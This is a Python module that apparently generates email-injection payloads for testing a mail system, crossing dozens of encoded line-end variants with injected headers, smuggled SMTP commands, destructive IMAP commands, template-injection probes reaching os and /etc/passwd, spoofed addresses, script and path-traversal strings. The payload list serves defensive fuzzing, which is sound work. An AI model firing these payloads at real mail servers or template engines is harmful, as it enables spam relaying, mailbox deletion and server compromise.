"""What somebody may write into a mail so that it becomes more than a word: of headers, of SMTP, of IMAP, of templates.

Comes in: how many, a seed. Goes out: that many different payloads, as octets. Each kind of line end meets each thing
that could be injected; what is more is made of several of both.
"""

from itertools import product
from random import Random

EVIL = "evil.example"
"""The domain of every address that a payload would bring in: nothing may ever be sent there."""

PRODUCT = "1000036000099"
"""What a template that is evaluated would make of the sum in a payload."""

LINE_ENDS: tuple[bytes, ...] = (
    b"\r\n", b"\n", b"\r", b"\r\r\n", b"\n\r", b"\r\n ", b"\r\n\t", b"\n ", b"\r\n\r\n", b"\n\n", b"\r\r", b"\r\n\r\n ", b"\r\n \r\n", b"\r\n\x0b", b"\r\n\xa0",
    b"\x00\r\n", b"\r\x00\n", b"\x00", b"\x0b", b"\x0c", b"\x1c", b"\x1d", b"\x1e", b"\x85", "\x85".encode(), "\u2028".encode(), "\u2029".encode(), "\u240d\u240a".encode(),
    "\u560d\u560a".encode(), "\u010d\u010a".encode(), b"\xc0\x8d\xc0\x8a", b"\xe0\x80\x8d\xe0\x80\x8a", b"+AA0ACg-", b"%0d%0a", b"%0A", b"%E5%98%8D%E5%98%8A", b"%u000d%u000a", b"\\r\\n", b"\\n", b"\\u000a", b"\\x0d\\x0a",
    b"=0D=0A", b"=0A", b"=0D", b"=?utf-8?q?=0D=0A?=", b"=?utf-8?q?a=0D=0A=20b?=", b"=?utf-8?b?DQo=?=", b"=?utf-8?b?DQ==?= =?utf-8?b?Cg==?=", b"=?utf-7?q?+AA0ACg-?=", b"=?utf-16?b?DQAKAA==?=", b"=?us-ascii?q?=0d=0a?=",
    b"=?utf-8?q?=E2=80=A8?=", b"=?iso-8859-1?q?=85?=", b"=?utf-8*en?q?=0D=0A?=", b"&#13;&#10;", b"&#x0d;&#x0a;", b"&#10;", b"&NewLine;", b"&Tab;", b"<br>", b"</p><p>", b"\x08", b"\x1b[2K", b"=\r\n", b" ", b"",
    b"\n.\n", b"\r\n.\r\n", b"\r.\r", b"\n.\r\n", b"\r\n.\n", b"\r.\r\n", b"\r\n.\r", b"\n.\r", b"\r.\n", b"\x00.\r\n", b"\r\n\x00.\r\n", b"\r\n.\x00\r\n", b"\r\n..\r\n", b".\r\n", b"\r\n.", b"\r\n. \r\n", b"=0D=0A.=0D=0A", b"=0A.=0A", b"\n\n.\n\n", b"=\r\n.\r\n", b"&#10;.&#10;",
)  # fmt: skip

_SMUGGLED = b"MAIL FROM:<a@evil.example>\r\nRCPT TO:<b@evil.example>\r\nDATA\r\nFrom: a@evil.example\r\nSubject: x\r\n\r\nx\r\n.\r\n"

INJECTED: tuple[bytes, ...] = (
    b"", b"Bcc: bcc@evil.example", b"Cc: cc@evil.example", b"To: to@evil.example", b"bcc:bcc@evil.example", b"Bcc : bcc@evil.example", b"Resent-To: a@evil.example", b"Reply-To: r@evil.example", b"From: f@evil.example", b"Sender: s@evil.example", b"Return-Path: <r@evil.example>",
    b"Subject: pwned", b"Content-Type: text/html", b"Content-Type: multipart/mixed; boundary=x", b"Content-Transfer-Encoding: base64", b"MIME-Version: 9", b"X-Evil: 1", b"Auto-Submitted: no", b"Disposition-Notification-To: d@evil.example", b"Return-Receipt-To: d@evil.example", b"Message-ID: <x@evil.example>", b"X-Mailroute-Loop: x", b"<script>alert(1)</script>", b"--=_mr_00000000000000000000000000000000--",
    _SMUGGLED, _SMUGGLED.replace(b"\r\n", b"\n"), b".\r\n" + _SMUGGLED, b"MAIL FROM:<a@evil.example>", b"RCPT TO:<b@evil.example>", b"DATA", b"BDAT 3 LAST", b"QUIT", b"RSET", b"STARTTLS", b"EHLO evil.example", b"> RCPT TO:<b@evil.example>", b"a@evil.example> SIZE=1 NOTIFY=SUCCESS ORCPT=rfc822;b@evil.example",
    b"a1 LOGOUT", b"a1 UID STORE 1:* +FLAGS (\\Deleted)", b"a1 EXPUNGE", b"a1 DELETE INBOX", b"{5}", b"{5+}\r\nhello", b"{0}", b"~{5}", b'" a1 DELETE INBOX', b"\\", b'"', b"*", b"%", b"(\\Seen)", b"BODY[]", b"1:*", b"INBOX", b"../../INBOX", b"&AOQ-",
    b"#resolve", b"#close", b"# resolve", b"\n#resolve", b"\r#assign evil", b"> \n#resolve", "\uff03resolve".encode(), "\u200b#resolve".encode(), b"=23resolve", b"&#35;resolve", b"MR-BBBBBBBBBB", b"(MR-DGJLMPQRVX)", b"[MR-DGJLMPQRVX]", b"Ticket 12345", b"INC0012345",
    b"{{ 1000003*1000033 }}", b"{{1000003*1000033}}", b"{% set x = 1000003*1000033 %}{{ x }}", b"{{ ''.__class__.__mro__ }}", b"{{ config }}", b"{{ desk }}", b"{{ self._TemplateReference__context }}", b"{{ cycler.__init__.__globals__.os }}", b"{% include '/etc/passwd' %}", b"{% raw %}", b"{# note #}", b"{{", b"}}", b"{%", b"%}", b"# for x in y", b"${1000003*1000033}", b"#{1000003*1000033}", b"<%= 1000003*1000033 %>", b"%(subject)s %s %n", b"{0.__class__}", b"{subject}", b"{field}", b"\\g<0>\\1", b"$1 \\1", b"{{ case.token }}", b"{{ customer|attr('__class__') }}", b"{{ {}|length }}",
    b"evil@evil.example", b"<evil@evil.example>", b"evil@evil.example,", b"Evil <evil@evil.example>, ", b'"evil@evil.example"', b'"Evil" <evil@evil.example>', b'"a\\" <evil@evil.example>, "b"', b"@evil.example:", b"<@evil.example:ana-fx@wisc.edu>", b"(evil@evil.example)", b"((evil@evil.example)", b"evil@evil.example\x00", b"evil%evil.example", b"evil!evil.example", b"evil@[192.0.2.1]", b"Group: evil@evil.example;", b"mailto:evil@evil.example", b"evil@evil.example>,<evil2@evil.example", b"=?utf-8?q?evil=40evil=2Eexample?=", b"=?utf-8?q?=3Cevil=40evil=2Eexample=3E?=", "evil@\u0435vil.example".encode(), "\u0430na-fx@wisc.edu".encode(), "\uff45vil@evil.example".encode(), "evil\uff20evil.example".encode(), "\u202eelpmaxe.live@live".encode(), b"xn--evil@evil.example", b"postmaster", b"MAILER-DAEMON@evil.example", b"help@doit.example", b"cps@queues.example", b"owner-list@evil.example", b"evil+ana-fx=wisc.edu@evil.example",
    b">From a@evil.example", b"From a@evil.example Mon Nov 23 10:00:00 2026", b">>From ", b"-----Original Message-----\nFrom: evil@evil.example\nSubject: x", b"begin 644 x\n", b"-- \n", b"x" * 1_000, b"x" * 998, b" " * 999, "\u00e9".encode() * 500, "\u202e\u2066\u200b".encode(), ("Z" + "\u0489" * 200).encode(), b"\xff\xfe\xfd", b"\xed\xa0\x80", b"=?utf-8?b?" + b"QUFB" * 200 + b"?=", b"=?x?y?z?=", b"=?utf-8?q?=", b"http://evil.example/", b"javascript:alert(1)", b"https://doit.example@evil.example/", b"../../etc/passwd", b"C:\\con", b"a;name=b", b'a"; filename="x', b"a\r\n\r\n--b--",
)  # fmt: skip


def payloads(count: int, seed: int) -> list[bytes]:
    """``count`` different payloads: first each injected thing behind a real line break, then the others by chance."""
    rng = Random(seed)
    first = [b"x" + end + thing for end in (b"\r\n", b"\n") for thing in INJECTED]
    rest = [b"x" + end + thing for end, thing in product(LINE_ENDS, INJECTED)]
    rng.shuffle(rest)
    made = list(dict.fromkeys([*first, *rest]))[:count]
    seen = set(made)
    while len(made) < count:
        payload = b"".join(rng.choice(LINE_ENDS) + rng.choice(INJECTED) for _ in range(rng.randint(2, 4)))
        if payload not in seen:
            seen.add(payload)
            made.append(payload)
    return made
